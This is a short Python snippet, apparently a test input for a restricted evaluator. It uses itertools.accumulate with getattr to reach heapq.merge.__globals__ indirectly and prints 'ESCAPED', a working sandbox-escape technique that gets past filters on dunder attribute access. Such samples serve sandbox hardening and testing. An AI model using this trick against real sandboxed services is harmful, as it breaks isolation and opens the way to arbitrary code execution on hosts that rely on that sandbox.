# Accumulate applies the accessor.
import itertools, heapq
print("ESCAPED", list(itertools.accumulate([heapq.merge, "__globals__"], getattr))[1])
